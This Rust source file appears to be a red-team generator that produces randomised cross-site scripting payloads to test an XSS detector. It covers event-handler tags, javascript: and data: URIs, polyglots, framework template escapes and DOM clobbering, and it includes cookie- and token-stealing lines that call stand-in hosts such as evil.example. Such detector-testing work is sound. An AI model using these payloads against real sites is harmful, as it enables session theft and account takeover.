//! Red-team XSS grammar, written apart from the detectors (issue 12, session 27) so that it does
//! not share their blind spots: the injection context an attacker breaks out of × the markup or
//! script that runs (tags with event handlers incl. SVG/MathML/custom elements, `javascript:`
//! and `data:` URIs in many attributes, srcdoc, CSS, tagless JS-string break-outs, template
//! literals, JSON-in-script, polyglots, `<base>`/`<meta>`/DOM clobbering, AngularJS/Vue
//! expressions) × the JavaScript that runs (sinks, property access, string building) × the
//! encodings attackers layer on top. Each context kind and each mutation is named.

use super::xss_js::base64 as b64;
use crate::mutate::{compat_forms, html_entities, join, percent_specials, random_case, transport_layer};
use crate::place::Request;
use crate::{Carrier, Family, Rng, Variant};

pub struct RedteamXss;

/// Something observable the script does: the callee and its argument.
const CALLEES: &[&str] = &["alert", "confirm", "prompt", "print", "alert", "console.log", "eval", "open"];
const ARGS: &[&str] = &["1", "document.domain", "document.cookie", "'XSS'", "origin", "/xss/", "String(1337)", "localStorage.token"];
const GLOBALS: &[&str] = &["window", "self", "top", "parent", "frames", "globalThis", "this", "content"];
const EXFIL_HOSTS: &[&str] = &["//evil.example", "https://attacker.test", "//x.oast.example", "//6.6.6.6", "//xss.report/c/abc"];

/// One JavaScript statement that does the attacker's work; the name says its shape.
pub fn js_payload(rng: &mut Rng) -> (String, &'static str) {
    let callee = rng.pick(CALLEES).to_string();
    let arg = rng.pick(ARGS).to_string();
    let g = rng.pick(GLOBALS);
    let host = rng.pick(EXFIL_HOSTS);
    // Code inside a single-quoted string literal cannot hold a bare `'`.
    let quoted = arg.replace('\'', "\"");
    match rng.below(20) {
        0 | 1 => (format!("{callee}({arg})"), "call"),
        2 => (format!("{callee}`{}`", rng.pick(&["1", "xss", "${document.domain}"])), "tagged-template"),
        3 => {
            let (a, b) = split_word(rng, &callee);
            (format!("{g}['{a}'+'{b}']({arg})"), "bracket-concat")
        }
        4 => (format!("{g}[{}]({arg})", quote_name(rng, &callee)), "bracket-escaped"),
        5 => (format!("[].constructor.constructor('{callee}({quoted})')()"), "constructor-chain"),
        6 => (format!("eval(atob('{}'))", b64(&format!("{callee}({arg})"))), "eval-atob"),
        7 => (format!("setTimeout('{callee}({quoted})'{})", rng.pick(&["", ",0", ",100"])), "settimeout-string"),
        8 => (format!("{}('{callee}({quoted})')()", rng.pick(&["Function", "new Function", "window.Function"])), "function-ctor"),
        9 => (format!("eval(String.fromCharCode({}))", char_codes(&format!("{callee}({arg})"))), "fromcharcode"),
        10 => (
            format!("fetch('{host}/?c='+{})", rng.pick(&["document.cookie", "btoa(document.cookie)", "localStorage.getItem('jwt')"])),
            "exfil-fetch",
        ),
        11 => (format!("new Image().src='{host}/?'+document.cookie"), "exfil-image"),
        12 => (
            format!("{}='{host}/?c='+document.cookie", rng.pick(&["location", "document.location", "location.href", "top.location"])),
            "exfil-location",
        ),
        13 => (format!("import('{host}/x.js')"), "dynamic-import"),
        14 => (format!("{}({callee})", rng.pick(&["[1].find", "[1].map", "[0].forEach", "Promise.resolve(1).then"])), "callback-sink"),
        15 => (format!("onerror={callee};throw {arg}"), "throw-onerror"),
        16 => (format!("(0,{callee})({arg})"), "comma-call"),
        17 => (format!("{callee}?.({arg})"), "optional-call"),
        18 => {
            let s = rng.pick(&[
                "document.body.appendChild(document.createElement('script')).src",
                "document.head.append(Object.assign(document.createElement('script'),{src:",
            ]);
            if s.ends_with("src:") {
                (format!("{s}'{host}/x.js'}}))"), "script-inject")
            } else {
                (format!("{s}='{host}/x.js'"), "script-inject")
            }
        }
        _ => (format!("Reflect.apply({callee},null,[{arg}])"), "reflect-apply"),
    }
}

/// A global function's name cut in two (`console.log` is not a property of `window`: `alert`).
fn split_word(rng: &mut Rng, word: &str) -> (String, String) {
    let w: &str = if word.contains('.') { "alert" } else { word };
    let cut = rng.range(1, w.len().saturating_sub(1).max(1));
    (w[..cut].to_string(), w[cut..].to_string())
}

/// A property name as an escaped string literal (`'\x61lert'`, `"\u0061lert"`, `'\141lert'`).
fn quote_name(rng: &mut Rng, word: &str) -> String {
    let w: &str = if word.contains('.') { "alert" } else { word };
    let q = *rng.pick(&['\'', '"', '`']);
    let mut out = String::new();
    out.push(q);
    for c in w.chars() {
        if rng.chance(0.5) {
            match rng.below(4) {
                0 => out.push_str(&format!("\\x{:02x}", c as u32)),
                1 => out.push_str(&format!("\\u{:04x}", c as u32)),
                2 => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
                _ if q != '`' => out.push_str(&format!("\\{:o}", c as u32)),
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out.push(q);
    out
}

fn char_codes(text: &str) -> String {
    text.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",")
}

/// What an attacker closes before the markup: nothing, an attribute, a raw-text element, a
/// comment.
const HTML_BREAKOUTS: &[&str] = &[
    "",
    "",
    "\">",
    "'>",
    "\"/>",
    "'/>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "--!>",
    "]]>",
    "</noscript>",
    "</iframe>",
    "\">'>",
    "</option></select>",
    "\"></a>",
    "`>",
    "</xmp>",
];

/// Between a tag name and its first attribute, and between attributes.
fn tag_gap(rng: &mut Rng) -> &'static str {
    const GAPS: &[&str] = &[" ", " ", " ", "/", "\t", "\n", "\x0c", "/x/", " /", "%0a", "%09"];
    let gap: &&'static str = rng.pick(GAPS);
    gap
}

fn attr_value(rng: &mut Rng, js: &str) -> String {
    match rng.below(4) {
        0 => format!("\"{js}\""),
        1 => format!("'{js}'"),
        2 if !js.contains(' ') && !js.contains('>') => js.to_string(),
        _ => format!("\"{js}\""),
    }
}

/// A tag that runs `js` by itself (no click needed, or an easy one), and the tag's kind.
fn handler_tag(rng: &mut Rng, js: &str) -> (String, &'static str) {
    let g = tag_gap(rng);
    let v = attr_value(rng, js);
    match rng.below(22) {
        0 => (format!("<img{g}src=x{g}onerror={v}>"), "img-onerror"),
        1 => (format!("<svg{g}onload={v}>"), "svg-onload"),
        2 => (format!("<body{g}onload={v}>"), "body-onload"),
        3 => (format!("<details{g}open{g}ontoggle={v}>"), "details-ontoggle"),
        4 => (format!("<{}{g}src=x{g}onerror={v}>", rng.pick(&["video", "audio", "image", "input type=image"])), "media-onerror"),
        5 => (
            format!("<{}{g}autofocus{g}onfocus={v}>", rng.pick(&["input", "select", "textarea", "keygen", "button", "a href=#"])),
            "autofocus-onfocus",
        ),
        6 => (format!("<iframe{g}onload={v}>"), "iframe-onload"),
        7 => (format!("<svg><animate{g}onbegin={v}{g}attributeName=x{g}dur=1s>"), "svg-animate"),
        8 => (format!("<svg><set{g}onbegin={v}{g}attributename=x>"), "svg-set"),
        9 => (format!("<math><maction{g}actiontype=statusline{g}onclick={v}>x</maction></math>"), "mathml"),
        10 => (
            format!(
                "<{}{g}{}={v}>x",
                rng.pick(&["x-widget", "my-el", "custom-tag", "xss", "abc-def"]),
                rng.pick(&["onclick", "onpointerover", "onmouseover", "tabindex=1 autofocus onfocus"])
            ),
            "custom-element",
        ),
        11 => (format!("<marquee{g}onstart={v}>"), "marquee"),
        12 => (format!("<div{g}style=\"animation-name:spin\"{g}onanimationstart={v}>"), "css-animation-event"),
        13 => (format!("<audio{g}controls><source{g}src=x{g}onerror={v}></audio>"), "source-onerror"),
        14 => (format!("<object{g}data=x{g}onerror={v}>"), "object-onerror"),
        15 => (format!("<body{g}onpageshow={v}>"), "body-onpageshow"),
        16 => (format!("<svg><script>{js}</script>"), "svg-script"),
        17 => (format!("<style{g}onload={v}></style>"), "style-onload"),
        18 => (format!("<form><button{g}formaction=javascript:{}>X</button>", js.replace(' ', "/**/")), "formaction"),
        19 => (format!("<x{g}contenteditable{g}onblur={v}>lose focus"), "contenteditable"),
        20 => (format!("<frameset{g}onload={v}>"), "frameset"),
        _ => (format!("<div{g}onmouseover={v}>hover</div>"), "div-onmouseover"),
    }
}

/// `javascript:` in one of its spellings.
fn js_scheme(rng: &mut Rng) -> (&'static str, &'static str) {
    *rng.pick(&[
        ("javascript:", "plain"),
        ("JaVaScRiPt:", "mixed-case"),
        ("java\tscript:", "tab"),
        ("java&#x09;script:", "entity-tab"),
        ("&#106;avascript:", "entity-j"),
        ("javascript&colon;", "entity-colon"),
        (" javascript:", "leading-space"),
        ("\x01javascript:", "leading-control"),
        ("java\nscript:", "newline"),
        ("&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;", "entity-all"),
    ])
}

fn uri_tag(rng: &mut Rng, js: &str) -> (String, &'static str) {
    let (scheme, _) = js_scheme(rng);
    let uri = format!("{scheme}{js}");
    let v = attr_value(rng, &uri);
    let g = tag_gap(rng);
    match rng.below(11) {
        0 | 1 => (format!("<a{g}href={v}>click</a>"), "a-href"),
        2 => (format!("<iframe{g}src={v}>"), "iframe-src"),
        3 => (format!("<form{g}action={v}><input type=submit>"), "form-action"),
        4 => (format!("<object{g}data={v}>"), "object-data"),
        5 => (format!("<embed{g}src={v}>"), "embed-src"),
        6 => (format!("<svg><a{g}xlink:href={v}><text x=20 y=20>X</text></a></svg>"), "svg-xlink"),
        7 => (format!("<math><mtext><a{g}href={v}>x</a></mtext></math>"), "math-href"),
        8 => (format!("<isindex{g}type=image{g}src=1{g}onerror={}>", attr_value(rng, js)), "isindex"),
        9 => (format!("<svg><animate{g}attributeName=href{g}values={v}/><a id=x><text>click</text></a></svg>"), "svg-animate-href"),
        _ => (format!("<input{g}type=image{g}formaction={v}>"), "input-formaction"),
    }
}

fn data_uri_tag(rng: &mut Rng, js: &str) -> (String, &'static str) {
    let html = format!("<script>{js}</script>");
    let g = tag_gap(rng);
    match rng.below(5) {
        0 => (format!("<iframe{g}src=\"data:text/html;base64,{}\">", b64(&html)), "data-base64"),
        1 => (format!("<object{g}data=\"data:text/html,{}\">", percent_specials(&html)), "data-html"),
        2 => (format!("<iframe{g}srcdoc=\"{}\">", html.replace('<', "&lt;").replace('>', "&gt;")), "srcdoc"),
        3 => (
            format!(
                "<embed{g}src=\"data:image/svg+xml;base64,{}\">",
                b64(&format!("<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>"))
            ),
            "data-svg",
        ),
        _ => (format!("<script{g}src=\"data:,{}\"></script>", js.replace(' ', "%20")), "script-data-src"),
    }
}

fn script_tag(rng: &mut Rng, js: &str) -> (String, &'static str) {
    let g = tag_gap(rng);
    let host = rng.pick(EXFIL_HOSTS);
    match rng.below(5) {
        0 | 1 => (format!("<script>{js}</script>"), "script-inline"),
        2 => (format!("<script{g}src={host}/x.js></script>"), "script-src"),
        3 => (format!("<script{g}type=module>{js}</script>"), "script-module"),
        _ => (format!("<script>{js}//"), "script-unclosed"),
    }
}

fn css_injection(rng: &mut Rng, js: &str) -> (String, &'static str) {
    let host = rng.pick(EXFIL_HOSTS);
    match rng.below(5) {
        0 => (format!("<style>@import '{host}/x.css';</style>"), "css-import"),
        1 => (format!("<div style=\"background:url('javascript:{js}')\">"), "css-url-js"),
        2 => (format!("<div style=\"width:expression({js})\">"), "css-expression"),
        3 => (format!("<link rel=stylesheet href=\"{host}/x.css\">"), "css-link"),
        _ => (format!("<style>*{{behavior:url({host}/x.htc);-moz-binding:url({host}/x.xml#x)}}</style>"), "css-binding"),
    }
}

/// Markup with no script of its own that still hands the page to the attacker.
fn dom_takeover(rng: &mut Rng, js: &str) -> (String, &'static str) {
    let host = rng.pick(EXFIL_HOSTS);
    match rng.below(5) {
        0 => (format!("<base href=\"{host}/\">"), "base-href"),
        1 => (format!("<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js}\">"), "meta-refresh-js"),
        2 => (
            format!("<meta http-equiv=refresh content=\"0; url=data:text/html;base64,{}\">", b64(&format!("<script>{js}</script>"))),
            "meta-refresh-data",
        ),
        3 => (
            format!(
                "<a id={n} href=\"{host}/x.js\"></a><a id={n} name=src href=\"{host}/x.js\">",
                n = rng.pick(&["defaultConfig", "CONFIG", "cdnHost", "scriptUrl"])
            ),
            "dom-clobber",
        ),
        _ => (
            format!(
                "<form id=\"{}\"><input name=\"{}\" value=\"{host}/x.js\">",
                rng.pick(&["config", "settings", "app"]),
                rng.pick(&["src", "url", "attributes", "action"])
            ),
            "dom-clobber-form",
        ),
    }
}

/// Attribute break-out with no `<`: the value lands inside a quoted attribute.
fn attr_breakout(rng: &mut Rng, js: &str) -> (String, &'static str) {
    let q = *rng.pick(&["\"", "'", "\"", ""]);
    let sp = rng.pick(&[" ", "/", "\t", "\n", " "]);
    let ev = rng.pick(&["onmouseover", "onfocus", "onclick", "onpointerenter", "onanimationstart", "onfocusin", "onmouseenter"]);
    let extra = match *ev {
        "onfocus" | "onfocusin" => format!("{sp}autofocus"),
        "onanimationstart" => format!("{sp}style={q}animation-name:x{q}"),
        _ => String::new(),
    };
    let tail = if q.is_empty() { String::new() } else { format!("{sp}x={q}") };
    (format!("{q}{extra}{sp}{ev}={q}{js}{q}{tail}"), "attr-breakout")
}

/// Tagless JavaScript contexts: the value lands inside a script string or expression.
fn js_context(rng: &mut Rng, js: &str) -> (String, &'static str) {
    match rng.below(12) {
        0 => (format!("';{js}//"), "js-sq-stmt"),
        1 => (format!("\";{js}//"), "js-dq-stmt"),
        2 => (format!("'-{js}-'"), "js-sq-minus"),
        3 => (format!("\"-{js}-\""), "js-dq-minus"),
        4 => (format!("\\';{js}//"), "js-backslash-quote"),
        5 => (format!("'+{js}+'"), "js-sq-plus"),
        6 => (format!("');{js};('"), "js-call-close"),
        7 => (format!("${{{js}}}"), "template-literal"),
        8 => (format!("`;{js};`"), "backtick-breakout"),
        9 => (format!("</script><script>{js}</script>"), "script-close-open"),
        10 => (format!("\"}}</script><svg onload={}>", attr_value(rng, js)), "json-in-script"),
        _ => (format!("'}};{js};{{'"), "js-object-close"),
    }
}

fn polyglot(rng: &mut Rng, js: &str) -> (String, &'static str) {
    match rng.below(4) {
        0 => (format!("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={js}//>\\x3e"), "polyglot-long"),
        1 => (format!("'\"--></style></script><svg onload={}>", attr_value(rng, js)), "polyglot-close-all"),
        2 => (format!("\"'><img src=x onerror={}>{{{{{}}}}}", attr_value(rng, js), "7*7"), "polyglot-img-template"),
        _ => (format!("-->'\"/></sCript><deTailS open x=\">\" ontoggle=({js})>"), "polyglot-details"),
    }
}

fn template_expression(rng: &mut Rng, js: &str) -> (String, &'static str) {
    let body = js.replace('\'', "\"");
    match rng.below(6) {
        0 => (format!("{{{{constructor.constructor('{body}')()}}}}"), "angular-constructor"),
        1 => (format!("{{{{$on.constructor('{body}')()}}}}"), "angular-on"),
        2 => (format!("{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=1}} }} }};{body}//');}}}}"), "angular-sandbox"),
        3 => (format!("{{{{_c.constructor('{body}')()}}}}"), "vue-c"),
        4 => (format!("<div ng-app ng-csp><input autofocus ng-focus=\"$event.view.{body}\">"), "angular-directive"),
        _ => (format!("{{{{toString.constructor.prototype.toString=toString.constructor.prototype.call;[\"a\",\"{body}\"].sort(toString.constructor)}}}}"), "angular-sort"),
    }
}

/// A whole request: the payload split over two same-name parameters (joined by frameworks
/// with `,`), in a multipart file name, or in a Referer.
fn carried(rng: &mut Rng, markup: &str) -> (Carrier, &'static str) {
    match rng.below(6) {
        0 => {
            let cut = markup.len() / 2;
            let cut = (cut..markup.len()).find(|&i| markup.is_char_boundary(i)).unwrap_or(markup.len());
            let (a, b) = markup.split_at(cut);
            let path = format!("/search?q={}&q={}", percent_specials(a), percent_specials(b));
            (Carrier::Request(Request::new("GET", &path).header("Accept", "text/html")), "split-params")
        }
        1 => {
            let body = format!(
                "--rt\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{}.png\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--rt--\r\n",
                // A header line holds no line break: whitespace instead.
                markup.replace('"', "'").replace(['\r', '\n'], " ")
            );
            (
                Carrier::Request(Request::new("POST", "/upload").header("Content-Type", "multipart/form-data; boundary=rt").body(&body)),
                "filename",
            )
        }
        2 => (Carrier::Header("referer"), "referer"),
        3 => (Carrier::Header("user-agent"), "user-agent"),
        _ => (Carrier::Value, ""),
    }
}

impl Family for RedteamXss {
    fn name(&self) -> &'static str {
        "redteam-xss"
    }

    fn detector(&self) -> &'static str {
        "xss"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let (mut js, js_kind) = js_payload(rng);
        let mut names: Vec<&str> = Vec::new();
        if rng.chance(0.15) {
            js = js.replacen('(', "/**/(", 1);
            names.push("js-comment");
        }
        let (body, kind) = match rng.below(11) {
            0 | 1 => handler_tag(rng, &js),
            2 => uri_tag(rng, &js),
            3 => data_uri_tag(rng, &js),
            4 => script_tag(rng, &js),
            5 => css_injection(rng, &js),
            6 => dom_takeover(rng, &js),
            7 => attr_breakout(rng, &js),
            8 => js_context(rng, &js),
            9 => polyglot(rng, &js),
            _ => template_expression(rng, &js),
        };
        names.insert(0, kind);
        names.insert(1, js_kind);
        let tagged = body.starts_with('<');
        let mut text = if tagged { format!("{}{body}", rng.pick(HTML_BREAKOUTS)) } else { body };
        match rng.below(10) {
            // JavaScript is case-sensitive: only the markup around the script changes case.
            0 if tagged && !text.contains("base64") && !text.contains('&') => {
                if let Some(at) = text.find(js.as_str()) {
                    let (head, rest) = text.split_at(at);
                    let tail = &rest[js.len()..];
                    text = format!("{}{js}{}", random_case(rng, head), random_case(rng, tail));
                    names.push("case");
                }
            }
            1 if !tagged => {
                text = html_entities(rng, &text, 0.3);
                names.push("entities");
            }
            2 => {
                text = compat_forms(rng, &text, 0.5);
                names.push("fullwidth");
            }
            3 if tagged => {
                text = text.replacen('<', "%3C", 1);
                names.push("half-encoded");
            }
            _ => {}
        }
        let (carrier, carrier_name) = carried(rng, &text);
        names.push(carrier_name);
        let payload = if matches!(carrier, Carrier::Value) {
            let (t, layer) = transport_layer(rng, &text);
            names.push(layer);
            t
        } else {
            text
        };
        Variant { family: "redteam-xss", mutation: join(&names), payload, carrier }
    }
}
